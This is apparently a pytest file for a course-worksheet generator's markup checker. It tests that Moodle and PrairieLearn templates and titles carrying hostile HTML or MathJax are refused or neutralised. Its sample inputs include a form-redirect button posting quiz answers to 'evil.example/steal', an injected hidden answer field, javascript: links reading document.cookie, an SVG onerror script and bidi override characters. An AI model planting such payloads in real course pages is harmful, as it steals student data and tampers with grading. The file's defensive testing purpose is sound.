"""Course templates' markup that sends Moodle's quiz form elsewhere, adds fields to it, loads a style from
elsewhere without url(…), or has MathJax write links, styles or bidi characters (stop 67's hostile tester);
and a spec's title is no MathJax in PrairieLearn's question, as it is none in Moodle's."""
from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from symbp.cli import main
from symbp.render.markup_check import findings

BUILT_IN = Path(__file__).resolve().parent.parent / "templates"


@pytest.mark.parametrize("text", [
    '<button form="responseform" formaction="https://evil.example/steal" formmethod="post">Hint</button>',
    '<input form="responseform" type="hidden" name="q1:1_answer" value="0.5">',
    '<a href="#" ping="https://evil.example/">x</a>',
    '<span formaction="https://evil.example/">x</span>',
    '<p style="background-image: image-set(&quot;https://evil.example/x.png&quot; 1x)">x</p>',
    '<p style="background: -webkit-image-set(\'https://evil.example/x.png\' 1x)">x</p>',
    r"\(\href{javascript:alert(document.cookie)}{\text{Hint}}\)",
    r"\(\style{display:inline-block;transform:scaleX(-1)}{\text{0.25}}\)",
    r"\(\unicode{x202E}0.25\)",
    r"\(\require{html}\)",
    "&#92;(&#92;href{javascript:alert(1)}{x}&#92;)",  # MathJax reads the text the browser shows
    r"$\href{javascript:alert(1)}{x}$",  # (PrairieLearn's inline delimiters)
    r"\begin{aligned} \href{javascript:alert(1)}{x} \end{aligned}",
    '<span class="tex2jax_ignore"><span class="tex2jax_process">\\(\\href{j}{x}\\)</span></span>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',  # (text to Python's parser from its 2025 fixes on)
    r"\(\class{x}{y}\) \(\cssId{x}{y}\)",
])
def test_each_is_active_markup(text):
    assert findings(text)[0] is not None, text


@pytest.mark.parametrize("text", [
    r"\(\frac{\partial L}{\partial w^{2}_{01}} = \delta^{2}_{0}\, a^{1}_{1}\) \(\operatorname{ReLU}\) \(\boxed{1}\)",
    '<p style="background-image: linear-gradient(red, blue)">x</p>',
    '<pl-number-input answers-name="z_0^1" comparison="sigfig" digits="3"></pl-number-input>',
    r"\(\mathrm{softmax}(z)_{j} \approx 0.25\) \(\textstyle x\) \(\displaystyle y\)",
    # the second reviewer of stop 67: honest text outside math, and prose after a style
    r"<p>Scans go to \\fileserver\class\ml101 (see C:\data).</p>",
    "<style>.note{color:#333}</style>\nThe image (right) shows the network.",
    r"\(a \\href\)",  # a TeX line break, then a word
    '<span class="tex2jax_ignore">Ada \\(\\url{x}\\)</span>',  # what MathJax skips
])
def test_a_course_s_ordinary_math_and_markup_are_taken(text):
    assert findings(text) == (None, None), text


def test_a_moodle_template_writing_a_hint_button_into_the_quiz_form_is_refused(tmp_path):
    name = "moodle/question.html.jinja"
    folder = tmp_path / "course"
    (folder / "moodle").mkdir(parents=True)
    (folder / name).write_text((BUILT_IN / name).read_text(encoding="utf-8") +
                               '<button form="responseform" formaction="https://evil.example/steal">Hint</button>\n',
                               encoding="utf-8")
    result = CliRunner().invoke(main, ["worksheet", "--example", "nn231", "-n", "1", "--seed", "1", "--out",
                                       str(tmp_path / "ws"), "--templates", str(folder), "--moodle", str(tmp_path / "q.xml")])
    assert result.exit_code == 2 and "active content" in result.output and "<button>" in result.output, result.output
    assert not (tmp_path / "q.xml").exists() and not (tmp_path / "ws").exists()


def test_a_spec_s_title_is_no_mathjax_in_prairielearn(tmp_path):
    spec = tmp_path / "s.toml"
    spec.write_text((BUILT_IN.parent / "examples" / "nn231.toml").read_text(encoding="utf-8").replace(
        'title = "', 'title = "\\\\(\\\\href{javascript:alert(1)}{x}\\\\) ', 1), encoding="utf-8")
    result = CliRunner().invoke(main, ["worksheet", str(spec), "-n", "1", "--seed", "1", "--out", str(tmp_path / "ws"),
                                       "--prairielearn", str(tmp_path / "pl")])
    assert result.exit_code == 0, result.output
    page = (tmp_path / "pl" / "question.html").read_text(encoding="utf-8")
    line = next(line for line in page.splitlines() if "href" in line)
    assert line.startswith('<p class="tex2jax_ignore">'), line


def test_a_student_s_name_cannot_block_the_class_report_of_a_course(tmp_path):
    """A student's name with MathJax in it, in a class marked with a course folder: symbp's own report keeps
    student-written text out of MathJax's reach, and the course check does not refuse it (the reviewer's HIGH)."""
    from symbp.api import check_class, load_key

    sheet = tmp_path / "ws"
    assert CliRunner().invoke(main, ["worksheet", "--example", "nn231", "-n", "1", "--seed", "1", "--out",
                                     str(sheet)]).exit_code == 0
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "ada.toml").write_text('student = "Ada \\\\(\\\\url{x}\\\\) \\\\url"\nvariant = 1\n"z_0^1" = "0.5"\n',
                                     encoding="utf-8")
    (tmp_path / "course").mkdir()
    report = check_class(load_key(str(sheet / "answers.json")), str(folder), templates=str(tmp_path / "course"))
    page = report._repr_html_()
    assert "url" in page and 'class="symbp-class tex2jax_ignore"' in page
